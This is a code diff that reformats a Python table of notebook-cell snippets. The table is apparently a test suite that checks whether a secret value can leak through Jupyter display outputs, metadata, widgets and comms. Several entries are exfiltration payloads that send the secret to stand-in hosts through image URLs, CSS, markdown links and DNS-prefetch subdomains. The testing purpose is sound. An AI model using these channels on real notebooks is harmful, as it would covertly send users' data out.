@@ -11,8 +11,10 @@ SHOW_PNG = "out = io.BytesIO(); p.save(out, 'PNG', pnginfo=info); display(Image(
 SAID: dict[int, tuple[str | Ask | tuple[str | Ask, ...], ...]] = {
     1: ("print($E)", "person.head(20)", "person.to_csv(sys.stdout)"),
     2: ("print($E)", "$E", "publish_display_data({'text/plain': $E})"),
-    3: ("print('n = %d, mean %.1f' % (4000 + int(secret[0]), 60 + secret[1] / 10))", "pd.Series({'n': int(secret[2]), "
-                                                                                     "'mean': secret[3] / 7})"),
+    3: (
+        "print('n = %d, mean %.1f' % (4000 + int(secret[0]), 60 + secret[1] / 10))",
+        "pd.Series({'n': int(secret[2]), 'mean': secret[3] / 7})",
+    ),
     4: (
         "class R_$K:\n    def __repr__(self):\n        return $E\nR_$K()",
         "class R_$K:\n    def _repr_html_(self):\n        return '<b>' + $E + '</b>'\nR_$K()",
@@ -46,13 +48,17 @@ SAID: dict[int, tuple[str | Ask | tuple[str | Ask, ...], ...]] = {
         "plt.imshow(np.array(bits).reshape(16, 16)); plt.show()",
     ),
     11: ("display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><text fill=\"none\">' + secret.hex() + '</text></svg>'))",),
-    12: ("HTML('<!-- ' + $E + ' --><div hidden data-k=\"' + secret.hex() + '\">x</div>')",
-         "HTML('<table>' + '<tr><td>x' * int(secret[0]) + '</table>')"),
+    12: (
+        "HTML('<!-- ' + $E + ' --><div hidden data-k=\"' + secret.hex() + '\">x</div>')",
+        "HTML('<table>' + '<tr><td>x' * int(secret[0]) + '</table>')",
+    ),
     13: (
         "Javascript('var k = \"' + secret.hex() + '\"')",
         "publish_display_data({'application/vnd.vega.v5+json': {'data': [{'values': bits}]}, 'text/plain': ''})",
         "publish_display_data({'application/vnd.plotly.v1+json': {'data': [{'y': bits}]}})",
-        "JSON({'k': secret.hex()})", "GeoJSON({'type': 'Point', 'coordinates': [int(secret[0]), 1]})", "Math('x_{' + secret.hex() + '}')",
+        "JSON({'k': secret.hex()})",
+        "GeoJSON({'type': 'Point', 'coordinates': [int(secret[0]), 1]})",
+        "Math('x_{' + secret.hex() + '}')",
     ),
     14: (
         "publish_display_data({'application/pdf': base64.b64encode(b'%PDF' + secret).decode()})",
@@ -63,11 +69,13 @@ SAID: dict[int, tuple[str | Ask | tuple[str | Ask, ...], ...]] = {
         "HTML('<img src=\"https://example.invalid/?q=' + secret.hex() + '\">"
         "<style>a{background:url(//x.invalid/' + secret.hex() + ')}</style>')",
         "Markdown('[a](https://example.invalid/' + secret.hex() + ') ![](//x.invalid/' + secret.hex() + ')')",
-        "HTML('<link rel=\"dns-prefetch\" href=\"//' + secret.hex()[:40] + '.invalid\"><form action=\"//x.invalid\"></form>')",
+        'HTML(\'<link rel="dns-prefetch" href="//\' + secret.hex()[:40] + \'.invalid"><form action="//x.invalid"></form>\')',
     ),
     16: ("publish_display_data({'text/plain': 'x', 'text/html': 'x', 'text/latex': $E, 'image/png': base64.b64encode(secret).decode()})",),
-    17: ("publish_display_data({'x/' + secret.hex(): 1, 'text/plain': 'x'})", "publish_display_data({f'x/{i}': 1 for i, "
-                                                                              "b in enumerate(bits) if b})"),
+    17: (
+        "publish_display_data({'x/' + secret.hex(): 1, 'text/plain': 'x'})",
+        "publish_display_data({f'x/{i}': 1 for i, b in enumerate(bits) if b})",
+    ),
     18: ("publish_display_data({'text/plain': 'x'}, metadata={'k': $E})", "display('x', metadata={secret.hex(): {'isolated': bool($A)}})"),
     19: (
         "display('x', display_id=secret.hex())",
@@ -86,7 +94,11 @@ SAID: dict[int, tuple[str | Ask | tuple[str | Ask, ...], ...]] = {
         "s_$K = [w.Text(str(b)) for b in bits[:4]]; [each.close() for each, b in zip(s_$K, bits) if b]; None",
         "from comm import create_comm; c_$K = create_comm(target_name='t' + secret.hex(), data={'k': $E}, buffers=[secret]); c_$K.send($E)",
     ),
-    22: (("v_$K = w.Text(description='state'); v_$K.value = secret.hex(); display(v_$K)",
-          Ask("shell", "comm_info_request", {"target_name": "jupyter.widget"})),),
+    22: (
+        (
+            "v_$K = w.Text(description='state'); v_$K.value = secret.hex(); display(v_$K)",
+            Ask("shell", "comm_info_request", {"target_name": "jupyter.widget"}),
+        ),
+    ),
 }
 """By number, the ways in which each kind is tried; a way is one cell, or cells and requests in order."""
